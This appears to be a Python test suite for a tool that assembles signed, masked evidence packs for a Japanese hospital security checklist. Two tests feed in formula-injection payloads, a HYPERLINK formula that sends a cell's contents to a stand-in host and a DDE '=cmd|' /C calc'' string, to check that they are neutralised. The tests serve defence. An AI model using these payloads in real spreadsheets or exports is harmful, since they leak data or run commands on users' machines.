"""Form, reasons and evidence in one sealed pack: the same ledger and day give the same bytes."""

import csv
import zipfile
from datetime import date, datetime, timedelta
from io import BytesIO, StringIO

import pytest

from tenken.actions.answer import answer
from tenken.actions.attest import withdraw
from tenken.actions.hand_over import PackError, hand_over
from tenken.actions.import_form import import_vendor_form
from tenken.actions.site import Site
from tenken.answers.model import Proposed
from tenken.config import Config, Facility
from tenken.facts.model import FACILITY
from tenken.forms.workbook import Entry, Filled, Mark, fill, read
from tenken.ledger.logbook import lately
from tenken.pack.model import MOST_OF_SEARCHES_BYTES, Masking
from tenken.pack.seal import verify
from tests import samples
from tests.actions.steps import R7_VENDOR, contract
from tests.build import NOW, TODAY
from tests.forms.workbooks import R7, members, opened
from tests.ledger.steps import bcp, seen, stated
from tests.pack.contents import pdf_text

FORM = "01_様式/医療機関確認用.xlsx"
INDEX, LIST = "00_目次と確かめ方.pdf", "03_証跡/証跡一覧.csv"
LATER = NOW + timedelta(hours=1)
FORMULA = '=HYPERLINK("http://example.jp/?"&A1,"様式")'


def filled(site: Site) -> None:
    """A server, a plan, a machine that somebody confirmed, three answers."""
    seen(site, samples.machine("ehr-srv01", 1))
    bcp(site)
    contract(site)
    answer(site, "r7", "hospital", "3-3", Proposed(True, "佐藤", TODAY), LATER)
    answer(site, "r7", "hospital", "2-6", Proposed(False, "山田", TODAY, date(2026, 3, 1)), LATER)


def pack(site: Site, form: str = "hospital", masking: Masking = Masking.NOTHING, day: date = TODAY) -> bytes:
    return hand_over(site, "r7", form, day, LATER, masking)


def texts(data: bytes) -> str:
    """All that stands in a pack but in PDFs, names of files included; workbooks unpacked."""
    parts = members(data)
    sheets = [members(content) for name, content in parts.items() if name.endswith(".xlsx")]
    plain = {name: content for name, content in parts.items() if not name.endswith((".pdf", ".xlsx"))}
    bodies = [*plain.values(), *(body for sheet in sheets for body in sheet.values())]
    return "\n".join([*parts, *(body.decode("utf-8", "replace") for body in bodies)])


def test_the_same_ledger_and_day_give_the_same_bytes(site: Site) -> None:
    filled(site)
    assert pack(site) == hand_over(site, "r7", "hospital", TODAY, LATER + timedelta(days=7))


def test_a_pack_of_an_empty_ledger_is_whole(site: Site) -> None:
    assert verify(pack(site)).whole


def test_a_pack_is_whole_and_signed_with_the_facilitys_key(site: Site) -> None:
    filled(site)
    checked = verify(pack(site))
    assert (checked.faults, checked.key) == ((), verify(pack(site, "pharmacy")).key)


def test_what_is_in_it(site: Site) -> None:
    filled(site)
    assert [name for name in members(pack(site)) if not name.startswith("03_証跡/E")] == [
        "00_目次と確かめ方.pdf",
        FORM,
        "01_様式/医療機関確認用.pdf",
        "02_判定と理由/判定と理由.pdf",
        "02_判定と理由/所見一覧.csv",
        "03_証跡/証跡一覧.csv",
        "manifest.json",
        "manifest.sig",
        "manifest.pub",
    ]


def test_the_form_in_it_is_the_official_one_with_the_answers(site: Site) -> None:
    filled(site)
    paper = read(R7, members(pack(site))[FORM])
    assert paper == Filled(
        {"医療機関名": "みどり野総合病院", "記入日(確認日)": "令和7年11月20日", "記入者/担当者": "山田"},
        {"2-6": Entry(Mark(False, TODAY), date(2026, 3, 1)), "3-3": Entry(Mark(True, TODAY))},
    )


def test_the_original_papers_are_in_it_word_for_word(site: Site) -> None:
    filled(site)
    originals = [content for name, content in members(pack(site)).items() if name.endswith("証跡.pdf")]
    assert originals == [b"%PDF-1.7 plan"]


def test_as_of_a_day_before_nothing_was_known(site: Site) -> None:
    filled(site)
    earlier = members(pack(site, day=TODAY - timedelta(days=1)))
    assert read(R7, earlier[FORM]).entries == {}


@pytest.mark.parametrize("day", [TODAY + timedelta(days=1), date(1979, 12, 31)])
def test_as_of_a_day_that_no_pack_can_be_of_is_refused(site: Site, day: date) -> None:
    with pytest.raises(PackError, match=day.isoformat()):
        pack(site, day=day)


def test_a_text_like_a_formula_is_a_text_in_the_form(site: Site) -> None:
    poisoned = Site(Config(site.config.data, Facility(FORMULA)), site.archive, site.keys)
    bcp(poisoned)
    answer(poisoned, "r7", "hospital", "3-3", Proposed(True, "=1+1", TODAY, reason="@SUM(A1)"), LATER)
    sheet = opened(members(pack(poisoned))[FORM])["医療機関確認用"]
    cells = [sheet[R7.cells.heads[head]] for head in ("医療機関名", "記入者/担当者")]
    assert [(cell.value, cell.data_type) for cell in cells] == [(FORMULA, "s"), ("=1+1", "s")]


def test_no_cell_of_the_tables_begins_a_formula(site: Site) -> None:
    stated(site, "ledger-entry", "machine:pc1", NOW, b"", machine_class="client_pc", title="=cmd|' /C calc'!A0")
    tables = [body.decode("utf-8-sig") for name, body in members(pack(site)).items() if name.endswith(".csv")]
    cells = [cell for table in tables for row in csv.reader(StringIO(table)) for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "@", "-"))] == []


def test_every_finding_is_a_line_of_the_table(site: Site) -> None:
    filled(site)
    table = members(pack(site))["02_判定と理由/所見一覧.csv"].decode("utf-8-sig")
    lines = {(line["行"], line["対象"], line["判定"]) for line in csv.DictReader(StringIO(table))}
    assert {("3-③", "施設全体", "適合"), ("2-⑤", "ehr-srv01", "不適合")} <= lines


@pytest.mark.parametrize(
    ("masking", "hidden"),
    [
        (Masking.ADDRESSES, ("10.20.0.1", "00:16:3e:00:00:01")),
        (Masking.HOSTS, ("10.20.0.1", "00:16:3e:00:00:01", "ehr-srv01")),
        (Masking.ACCOUNTS, ("10.20.0.1", "00:16:3e:00:00:01", "ehr-srv01", "old-vendor")),
    ],
)
def test_what_is_masked_stands_nowhere(site: Site, masking: Masking, hidden: tuple[str, ...]) -> None:
    filled(site)
    masked, plain = texts(pack(site, masking=masking)), texts(pack(site))
    assert [word for word in hidden if word in masked or word not in plain] == []


def test_papers_stay_out_of_a_masked_pack_and_are_listed_with_their_digest(site: Site) -> None:
    filled(site)
    parts = members(pack(site, masking=Masking.ADDRESSES))
    listed = parts["03_証跡/証跡一覧.csv"].decode("utf-8-sig")
    assert ([name for name in parts if name.endswith("証跡.pdf")], "証跡.pdf" in listed) == ([], True)


def searched(site: Site, title: str, now: datetime = NOW, content: bytes = b'{"events": []}', /, **more: str) -> None:
    """Somebody asked the access logs and kept what came of it."""
    told = {"topic": "access-log", "title": title, "asked": "利用者 k-yamada", "found": "業務の範囲内", "events": "12"}
    period = {"period_from": "2025-10-01", "period_to": "2025-10-31", "checkpoint": "tenken-logs/0011 12 qrvM"}
    stated(site, "log-search", FACILITY, now, content, **{**told, **period, **more})


def test_a_kept_search_is_in_it_with_its_file_and_a_line_in_the_contents(site: Site) -> None:
    searched(site, "患者照会 10月")
    made = pack(site)
    parts = members(made)
    assert (b'{"events": []}' in parts.values(), verify(made).whole) == (True, True)
    line = "アクセスログの検索「患者照会10月」（2025-10-01から2025-10-31まで、12件）"
    assert (line in pdf_text(parts[INDEX]), line in parts[LIST].decode().replace(" ", "")) == (True, True)


@pytest.mark.parametrize(("days", "bound"), [(365, True), (366, False)])
def test_searches_of_the_last_year_are_in_it(site: Site, days: int, *, bound: bool) -> None:
    period = {"period_from": "2024-10-01", "period_to": "2024-10-31"}
    searched(site, "患者照会", NOW - timedelta(days=days), b"{}", **period)
    assert ("患者照会" in texts(pack(site))) is bound


def test_a_search_that_was_kept_later_or_for_a_row_of_another_form_or_taken_back_is_not_in_it(site: Site) -> None:
    searched(site, "棚卸し", NOW, b"{}", topic="asset-ledger")
    searched(site, "取り消し")
    withdraw(site, FACILITY, "log-search", "access-log/取り消し", "佐藤", NOW + timedelta(minutes=1))
    searched(site, "あとから", LATER + timedelta(days=1))
    said = texts(pack(site, "vendor"))
    assert [word for word in ("棚卸し", "取り消し", "あとから") if word in said] == []


def test_searches_that_are_too_large_together_are_left_out_from_the_oldest_on_and_named(site: Site) -> None:
    half = b"{" + b" " * (MOST_OF_SEARCHES_BYTES // 2)
    for days, title in ((3, "古い"), (2, "大きい"), (1, "新しい")):
        searched(site, title, NOW - timedelta(days=days), b"{}" if title == "新しい" else half + title.encode())
    parts = members(pack(site))
    files = [name for name in parts if "証跡.pdf" in name]
    index = pdf_text(parts[INDEX])
    assert (len(files), any(content.endswith("大きい".encode()) for content in parts.values())) == (2, True)
    assert "50MBまで" in index
    assert [title for title in ("古い", "大きい", "新しい") if title in index.partition("50MBまで")[2]] == ["古い"]


def test_a_masked_pack_lists_a_search_and_holds_nothing_of_it(site: Site) -> None:
    searched(site, "k-yamada の閲覧", NOW, b'{"user_id": "k-yamada"}')
    made = pack(site, masking=Masking.ACCOUNTS)
    parts = members(made)
    everything = texts(made) + pdf_text(parts[INDEX])
    assert ("k-yamada" in everything, "アクセスログの検索（2025-10-01" in everything) == (False, True)
    assert [name for name in parts if name.startswith("03_証跡/E")] == []


def test_a_vendor_form_is_one_paper_for_each_vendor(site: Site) -> None:
    contract(site)
    contract(site, "vendor:東亜医療")
    answers = {"1-1": Entry(Mark(True, date(2025, 11, 10))), "2-2": Entry(None, None, Mark(False, date(2025, 11, 11)))}
    import_vendor_form(site, fill(R7_VENDOR, answers, {"事業者名": "北斗システム"}), NOW)
    papers = {name: content for name, content in members(pack(site, "vendor")).items() if name.endswith(".xlsx")}
    ours = {name: read(R7_VENDOR, content).entries for name, content in papers.items() if name.startswith("01")}
    assert ours == {"01_様式/事業者確認用_北斗システム.xlsx": answers, "01_様式/事業者確認用_東亜医療.xlsx": {}}


def test_an_original_that_was_lost_does_not_stop_the_pack(site: Site) -> None:
    filled(site)
    for path in (site.config.data / "archive").rglob("*.gz"):
        path.unlink()
    assert verify(pack(site)).whole


def test_who_made_it_stands_in_the_logbook(site: Site) -> None:
    hand_over(site, "r7", "hospital", TODAY, NOW, Masking.HOSTS, by="佐藤")
    done = lately()[0]
    assert (done.by, done.verb, done.about, done.detail) == ("佐藤", "pack", "r7 hospital", "2025-11-20 HOSTS")


def test_any_program_can_open_it(site: Site) -> None:
    filled(site)
    assert zipfile.ZipFile(BytesIO(pack(site))).testzip() is None
